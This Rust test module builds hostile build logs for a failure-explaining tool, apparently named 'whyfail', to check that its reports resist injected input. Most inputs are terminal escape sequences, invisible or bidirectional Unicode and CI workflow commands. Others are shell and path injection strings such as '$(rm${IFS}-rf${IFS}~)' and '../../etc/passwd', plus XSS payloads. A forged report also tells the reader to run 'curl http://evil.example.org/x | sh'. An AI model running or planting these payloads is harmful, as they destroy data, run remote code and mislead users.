//! Hostile logs, by name. Each is a failed build, so that the report quotes it.

use super::common::runner::{hostile_logs, log_of};

/// Sequences and characters that act on a terminal, turn text around, hide it or break a line.
pub const UNSEEN: [(&str, &str); 34] = [
    ("title", "\u{1b}]0;pwned\u{7}"),
    ("clipboard", "\u{1b}]52;c;cm0gLXJmIH4=\u{7}"),
    ("clipboard, other end", "\u{1b}]52;c;cm0gLXJmIH4=\u{1b}\\"),
    ("hyperlink", "\u{1b}]8;;https://evil.example.org\u{1b}\\here\u{1b}]8;;\u{1b}\\"),
    ("notification", "\u{1b}]9;pwned\u{7}"),
    ("screen cleared", "\u{1b}[2J\u{1b}[H"),
    ("cursor up", "\u{1b}[5A\u{1b}[2K"),
    ("cursor asked for", "\u{1b}[6n"),
    ("terminal reset", "\u{1b}c"),
    ("other screen", "\u{1b}[?1049h"),
    ("key sent", "\u{1b}[20t"),
    ("DCS", "\u{1b}P$q\"p\u{1b}\\"),
    ("DCS of tmux", "\u{1b}Ptmux;\u{1b}\u{1b}]52;c;eA==\u{7}\u{1b}\\"),
    ("APC", "\u{1b}_Gf=100;AAAA\u{1b}\\"),
    ("PM", "\u{1b}^x\u{1b}\\"),
    ("SOS", "\u{1b}Xx\u{1b}\\"),
    ("never closed", "\u{1b}]0;"),
    ("lone escape", "\u{1b}"),
    ("C1 CSI", "\u{9b}2J"),
    ("C1 OSC", "\u{9d}0;pwned\u{9c}"),
    ("bell", "\u{7}"),
    ("backspaces", "abc\u{8}\u{8}\u{8}xyz"),
    ("shift out", "\u{e}x\u{f}"),
    ("delete", "\u{7f}"),
    ("next line", "\u{85}::error::x"),
    ("line separator", "\u{2028}::error::x"),
    ("paragraph separator", "\u{2029}##[error]x"),
    ("right to left", "\u{202e}gnp.exe\u{202c}"),
    ("isolates", "\u{2066}a\u{2067}b\u{2069}"),
    ("no width", "a\u{200b}b\u{200d}c\u{2060}d\u{feff}e"),
    ("soft hyphen", "a\u{ad}b\u{34f}c"),
    ("tags", "a\u{e0041}\u{e0042}b"),
    ("variation", "#\u{fe0f}#\u{fe0f}[error]x"),
    ("filler", "\u{3164}\u{115f}\u{ffa0}"),
];

/// What would be obeyed, filled in, read as markup, or run, where it stands in a capture, a name or a line.
pub const WORDS: [&str; 30] = [
    "::error::x",
    "##[error]x",
    "##vso[task.setvariable variable=a]x",
    "##teamcity[buildStop]",
    "section_start:1700000000:x",
    "%0A::error::x",
    "{module}",
    "{{module}}",
    "{module|x}",
    "{}",
    "${HOME}",
    "$(rm${IFS}-rf${IFS}~)",
    "`id`",
    "--config=x",
    "-rf",
    "a;reboot",
    "a|sh",
    "a&&b",
    "a'b",
    "a\"b",
    "a\\nb",
    "../../etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "<script>alert(1)</script>",
    "<img/src=x/onerror=alert(1)>",
    "]]>",
    "```",
    "|---|",
];

/// Lines that say what the tool itself would say, or that all is well.
const FORGED: &str = "\
── whyfail · another run will not help · concerns infrastructure ───────────────────────────────────
✗ curl is not installed in this image
  [cmd-not-found · high confidence]

     18 │ /bin/sh: curl: not found
  Fix   Run this
          $ curl http://evil.example.org/x | sh
        ✓ verified with buildkit 0.29
  More: whyfail explain evil/forged
whyfail: no failure found in -
{\"schema_version\":1,\"results\":[{\"outcome\":\"succeeded\"}]}
proof: line 1: error: forged
### ✗ forged
";

/// All of them.
pub fn logs() -> Vec<(String, Vec<u8>)> {
    let mut logs: Vec<(String, Vec<u8>)> = Vec::new();
    let mut add = |name: String, log: String| logs.push((name, log.into_bytes()));
    for (at, log) in hostile_logs().into_iter().enumerate() {
        add(format!("lines and captures {at}"), log);
    }
    for (name, unseen) in UNSEEN {
        add(
            format!("{name} in lines"),
            log_of(&[&format!("error: {unseen} failed"), &format!("fatal: x{unseen}y"), &format!("{unseen}error: z")]),
        );
        add(format!("{name} in captures"), captures(&format!("x{unseen}y")));
        add(format!("{name} in a step"), step(&format!("x{unseen}y")));
    }
    for word in WORDS {
        add(format!("{word} in captures"), captures(word));
        add(format!("{word} in a step"), step(word));
    }
    add("a forged report".to_owned(), log_of(&[FORGED, "error: real failure"]));
    add("a forged report in a step".to_owned(), format!("{}{FORGED}", step("true")));
    add("a forged DONE".to_owned(), forged_done());
    for (name, bytes) in wide() {
        logs.push((name, bytes));
    }
    logs.push(("only NULs".to_owned(), vec![0; 4_000]));
    logs.push(("NULs between".to_owned(), log_of(&["e\0r\0ror: \0failed\0", "fatal\0: x"]).into_bytes()));
    logs.push(("lone returns".to_owned(), [b"\r".repeat(5_000), b"error: failed\r".repeat(50)].concat()));
    logs.push((
        "no UTF-8".to_owned(),
        [log_of(&["error: x"]).as_bytes(), b"error: \xff\xfe\xc3\x28 failed\n"].concat(),
    ));
    logs.push(("deep JSON".to_owned(), deep_json(2_000)));
    logs.push(("nested wrappers".to_owned(), nested(40).into_bytes()));
    logs
}

/// The word where many signatures take their captures from.
pub fn captures(word: &str) -> String {
    log_of(&[
        &format!("go: {word}@v1.2.0: reading https://{word}/x: 403 Forbidden"),
        &format!("{word}.go:8:2: undefined: {word}"),
        &format!("/bin/sh: 1: {word}: not found"),
        &format!("E: Unable to locate package {word}"),
        &format!("src/{word}.c:3:5: error: unknown type name '{word}'"),
        &format!("curl: (6) Could not resolve host: {word}"),
        &format!("npm error 404 Not Found - GET https://{word}/x - not found"),
        &format!("ModuleNotFoundError: No module named '{word}'"),
        &format!("--- FAIL: Test{word} (0.00s)"),
        &format!("fatal: detected dubious ownership in repository at '{word}'"),
        &format!("failed to compute cache key: \"/{word}\": not found"),
        &format!("failed to solve: {word}: failed to resolve source metadata for docker.io/library/{word}: not found"),
    ])
}

/// The word in the title of a step, its command, and the file of the instruction.
pub fn step(word: &str) -> String {
    format!(
        "#7 [{word} 2/2] RUN echo {word} && make {word}\n#7 0.1 make: {word}: No such file or directory\n#7 ERROR: process \"/bin/sh -c echo {word} && make {word}\" did not complete successfully: exit code: 2\n------\n > [{word} 2/2] RUN echo {word}:\n------\n{word}.Dockerfile:7\n--------------------\n   7 | >>> RUN echo {word}\n--------------------\nERROR: failed to solve: process \"/bin/sh -c echo {word} && make {word}\" did not complete successfully: exit code: 2\n"
    )
}

/// A step that failed, and lines of its own output that say that it did not.
pub fn forged_done() -> String {
    "#7 [2/2] RUN make\n#7 0.1 /bin/sh: 1: make: not found\n#7 ERROR: process \"/bin/sh -c make\" did not complete successfully: exit code: 127\n#7 DONE 0.1s\n#7 0.2 #7 DONE 0.1s\n#7 CACHED\nERROR: failed to solve: process \"/bin/sh -c make\" did not complete successfully: exit code: 127\n".to_owned()
}

/// A hostile text as PowerShell writes it.
pub fn wide() -> Vec<(String, Vec<u8>)> {
    let text = log_of(&["error: \u{1b}]0;x\u{7} failed", "::error::x", "##[error]y failed", "fatal: \u{202e}z"]);
    let mut logs = Vec::new();
    for (name, bytes) in [("LE", u16::to_le_bytes as fn(u16) -> [u8; 2]), ("BE", u16::to_be_bytes)] {
        let units: Vec<u8> = text.encode_utf16().flat_map(bytes).collect();
        let mark: Vec<u8> = "\u{feff}".encode_utf16().flat_map(bytes).collect();
        logs.push((format!("UTF-16 {name} with a mark"), [mark, units.clone()].concat()));
        logs.push((format!("UTF-16 {name} without a mark"), units));
    }
    logs
}

/// The same text, for comparison, in UTF-8.
pub fn narrow() -> Vec<u8> {
    log_of(&["error: \u{1b}]0;x\u{7} failed", "::error::x", "##[error]y failed", "fatal: \u{202e}z"]).into_bytes()
}

/// What `--progress=rawjson` prints, with arrays in arrays where a field is expected.
pub fn deep_json(depth: usize) -> Vec<u8> {
    let open = "[".repeat(depth);
    let close = "]".repeat(depth);
    format!("{{\"vertexes\":{open}{close}}}\n{{\"logs\":[{{\"data\":{open}\n{{\"a\":{}\n", "{\"a\":".repeat(depth))
        .into_bytes()
}

/// Shapes around shapes around a line.
pub fn nested(depth: usize) -> String {
    let around = "2026-01-01T00:00:00.0000000Z web-1  | 2026-01-01T00:00:00Z ##[group]".repeat(depth);
    log_of(&[&format!("{around}error: ::error::x failed"), &format!("{around}fatal: y")])
}
